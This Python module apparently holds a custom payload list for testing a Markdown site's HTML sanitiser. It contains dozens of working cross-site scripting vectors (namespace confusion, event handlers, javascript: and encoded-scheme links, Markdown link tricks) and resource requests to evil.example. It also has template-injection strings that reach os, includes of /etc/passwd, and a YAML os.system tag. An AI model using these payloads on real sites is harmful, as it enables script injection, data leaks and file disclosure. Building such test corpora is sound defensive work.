"""Vectors that stand in no corpus: shapes of our own, after how browsers parse and how this site is made."""

from __future__ import annotations

CALL = "alert(1)"
IMAGE = f"<img src=x onerror={CALL}>"

NAMESPACES = (
    f"<svg><annotation-xml><foreignobject><style><!--</style><p title='--&gt;{IMAGE}'>",
    f"<math><annotation-xml encoding=application/xhtml+xml><noscript><p id='</noscript>{IMAGE}'>",
    f"<svg><foreignObject><noscript></svg><textarea></noscript>{IMAGE}</textarea>",
    f"<math><ms><mglyph><malignmark><style><!--</style>--><a id='{IMAGE}'>",
    f"<svg><font color><title><![CDATA[</title>{IMAGE}]]></svg>",
    f"<table><colgroup><template><td><svg><style></table>{IMAGE}</style></svg></template>",
    f"<select><selectedcontent></selectedcontent><option><svg><title><style></option>{IMAGE}</style></select>",
    f"<svg><image href=x onerror={CALL}><desc><math><mi><image src=x onerror={CALL}></math>",
    f"<frameset><frame src=javascript:{CALL}></frameset><noframes></noframes>{IMAGE}",
    f"<dl><dt><form id=x></dt><math><mtext></form><form><mglyph><style></math>{IMAGE}",
)
"""What changes its namespace, its parent or its mode of parsing when it is read once more."""

TEMPLATES = (
    f"<div><template shadowrootmode=closed><slot onslotchange={CALL}></slot>{IMAGE}</template></div>",
    f"<noscript><template><script>{CALL}</script></noscript></template>{IMAGE}",
    f"<template><template></template><base href=//evil.example/><a href=x>x</a></template>{IMAGE}",
    f"<input type=hidden oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>",
    f"<div style='scroll-timeline:--x;overflow:auto' onscrollsnapchanging={CALL}>x</div>",
    f"<video controls><track default src='data:text/vtt,WEBVTT' oncuechange={CALL}></video>",
    f"<details name=x open ontoggle={CALL}><summary>x</summary></details>",
    f"<button commandfor=x command=show-popover>x</button><i id=x popover onbeforetoggle={CALL} oncommand={CALL}>x</i>",
)
"""What waits for something, in elements that are young."""

ADDRESSED = (
    "<img srcset='http://evil.example/1x.png 1x, http://evil.example/2x.png 2x' sizes=1px>",
    "<link rel=preload as=image imagesrcset='http://evil.example/x.png 9w' imagesizes=9px>",
    "<svg><feImage href=http://evil.example/x.svg /><image xlink:href=http://evil.example/y.png /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)>#x'/></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<p style='background-image:image-set(url(http://evil.example/x.png) 1x)'>x</p>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}p{font-family:x}</style><p>x</p>",
    "<style>:root{--x:url(http://evil.example/x)}p{mask:var(--x);cursor:url(//evil.example/c),auto}</style><p>x</p>",
    "<meta http-equiv=refresh content='0.1 ; URL = &Tab;http://evil.example/x'>",
    "<meta name=referrer content=unsafe-url><a href=x ping='http://evil.example/p http://evil.example/q'>x</a>",
    "<form id=f></form><button form=f formaction='java&#x0A;script:alert(1)' formmethod=get>x</button>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.example/x"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"data:,alert(1)"}}</script><script type=module>import "x"</script>',
    "<body background=http://evil.example/x.png><bgsound src=http://evil.example/x.wav><applet archive=//evil.example>",
)
"""What asks, leads or sends elsewhere."""

MARKDOWN = (
    '[a][x]\n\n[x]: java&#115;cript&#58;alert(1) "<img src=x onerror=alert(1)>"',
    "[a][]\n\n[a]: <data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4->",
    '![[x](javascript:alert(1))][y]\n\n[y]: x\\"onerror=alert(1)//',
    "[[[[x](y)](javascript:alert(1))](javascript:alert(1))](<javascript:alert(1)>)",
    "<javascript&colon;alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>",
    '<harbor@a.example"onclick=alert(1)> <mailto:javascript:alert(1)@a.example>',
    "<div>\n*x*\n\n<img src=x onerror=alert(1)>\n\n</div>\n\n<!-- --\n\n><img src=x onerror=alert(1)>\n-->",
    '````md"onmouseover=alert(1)\n```\n<img src=x onerror=alert(1)>\n````\n\n~~~<img/src/onerror=alert(1)>\nx',
    "a | b\n- | -\n`|<img src=x onerror=alert(1)>`|\\|<svg/onload=alert(1)>\n[x][y]|[y]: javascript:alert(1)",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <svg onload=alert(1)>",
    '*<img src=x onerror=**alert(1)>*\n\n_<a href="_javascript:alert(1)_">x</a>_',
    '{{ config.__class__ }}{%- raw -%}<img src=x onerror=alert(1)>{%- endraw -%}{{"{{"}}',
    "{static}/../pelican.conf.py [x]({tag}<img/src/onerror=alert(1)>) [y](|attach|../x) {author}{category}{index}",
    '[x](https://harbor.example/{filename}"><img src=x onerror=alert(1)>) ![y]({photo}x)',
    "[x](//evil.example/x) [y](/\\evil.example/y) [z](\\\\evil.example\\z) ![w](//evil.example/w.png)",
    "1. <img src=x\n   onerror=alert(1)>\n\n   > <svg\n   > onload=alert(1)>\n\n- [ ] <input onfocus=alert(1)>",
)
"""What Markdown, a template engine or a publisher of Markdown could make markup of."""

UNSEEN = (*NAMESPACES, *TEMPLATES, *ADDRESSED, *MARKDOWN)

LATER = (
    f"<svg><style>&lt;img src=x onerror={CALL}&gt;</style><switch><foreignObject><template><p></svg>{IMAGE}",
    f"<math><semantics><annotation-xml encoding='tExT/HtMl'><table><a><select><style></select>{IMAGE}</style>",
    f"<p><svg><p></svg><table><svg><g/onload={CALL}><table><math><mi/onclick={CALL}>",
    f"<button><svg></button><title></p><style></title></style>{IMAGE}",
    f"<ruby><rtc><svg><rt><![CDATA[><!--]]></rt>--><image/href=x/onerror={CALL}>",
    "<svg><style>@import'//evil.example/x';*{fill:url(//evil.example/x#y);clip-path:url(//evil.example/z#y)}</style>",
    "<svg><filter><feImage href='//evil.example/x'/></filter><rect style='filter:url(//evil.example/f#x)'/></svg>",
    "<style>@namespace url(//evil.example/n);@layer x{@import url(//evil.example/i)}:host{src:url(//evil.example/h)}",
    "<p style='--x:url(//evil.example/x);background:var(--x);content:url(//evil.example/y)'>x</p>",
    "<base href='//evil.example/' target='_top'><base href='data:,'><img src=x><a href='?x'>x</a>",
    "<meta http-equiv=refresh content=\"0;url='&#x2f;&#x2f;evil.example/x'\"><meta charset=utf-7>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><meta name=robots content=all>",
    "<img sizes=auto loading=lazy srcset='data:,x 1x,//evil.example/x 2x , //evil.example/y,z 3x'>",
    "<link rel=expect blocking=render href=#x><link rel='dns-prefetch stylesheet' href=//evil.example/x>",
    f"<fencedframe></fencedframe><permission type=camera onprompt={CALL}></permission><portal src=//evil.example/>",
    f"<p onscrollend={CALL} onsecuritypolicyviolation={CALL} onbeforematch={CALL} hidden=until-found id=x>x</p>",
    f"<a href=x interestfor=y>x</a><p id=y popover=hint oninterest={CALL}>x</p><input oncancel={CALL} type=file>",
    "\u2028</script\u2029><!--<script>\u2028alert(1)//<\\/script>\u0085<\\u002fscript>",
    '"@context":"x","@type":["NewsArticle"],"url":"javascript:alert(1)"}</ScRiPt\f><script>alert(1)</script x="',
    "<!--<script></script><script>--></script><script>alert(1)//]]>--><!--</script>",
    "]]]]><![CDATA[>]]><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script><![CDATA[",
    "]]&gt;&lt;script xmlns=&quot;http://www.w3.org/1999/xhtml&quot;&gt;alert(1)&lt;/script&gt;",
    "&#x5d;&#x5d;&#x3e;</content:encoded><media:content url='javascript:alert(1)'/><link>javascript:alert(1)</link>",
    "<?xml-stylesheet href='javascript:alert(1)'?><xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    "[x](%6aavascript:alert(1)) [y](javascript%3aalert(1)) [z](ｊavascript:alert(1)) [w](java\u00adscript:alert(1))",
    "[x](https:javascript:alert(1)) [y](http:/\\/evil.example) [z](///evil.example) [w](.//\\evil.example)",
    '[x](http://javascript:alert(1)@evil.example) [y](http://a.example\\@evil.example/) [z](http://[::1]/"onclick=x)',
    "[x](<java\nscript:alert(1)>) [y](\u00a0javascript:alert(1)) [z](\u200bjavascript:alert(1)) [w](&Tab;vbscript:x)",
    '[x]: javascript:alert(1)\n\n[x] [X][] [a][x] ![b][x]\n\n[y]: /z "\n[w]: javascript:alert(1)"\n[w]',
    '![![x](https://a.example/"onload=alert(1)) ](javascript:alert(1) \'" onerror="alert(1)\')',
    '<a+b.c-d:alert(1)> <javascript:alert(1)> <x:y"onclick=alert(1)> <view-source:javascript:alert(1)>',
    "[<](https://a.example/<img/src/onerror=alert(1)>) [`](`javascript:alert(1)`) [*](*javascript:alert(1)*)",
    "```\n<<<<<<< edited by hand\n<img src=x onerror=alert(1)>\n=======\n>>>>>>> new version\n```",
    "<<<<<<< edited by hand\n<img src=x onerror=alert(1)>\n|||||||\n[x](javascript:alert(1))\n=======\n>>>>>>>",
    "---\ntitle: <img src=x onerror=alert(1)>\nstatus: published\nslug: ../../x\n...\n--- !!python/name:os.system",
    "Title: x\nSave_as: ../x.html\nTemplate: evil\nStatus: <img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>",
    ".. raw:: html\n\n   <img src=x onerror=alert(1)>\n\n.. include:: /etc/passwd\n.. |x| replace:: y",
    "{% include '/etc/passwd' %}{{ self._TemplateReference__context }}{{ cycler.__init__.__globals__.os }}{#-",
    "{% autoescape false %}<img src=x onerror=alert(1)>{% endautoescape %}{{'<img src=x onerror=alert(1)>'|safe}}",
    "%} {{ '<img src=x onerror=alert(1)>' }} {% raw %}{{ x }}\n# for x in y\n<img src=x onerror=alert(1)>",
)
"""More of all of these, which came after runs were counted by eighths: they are tried behind all others."""
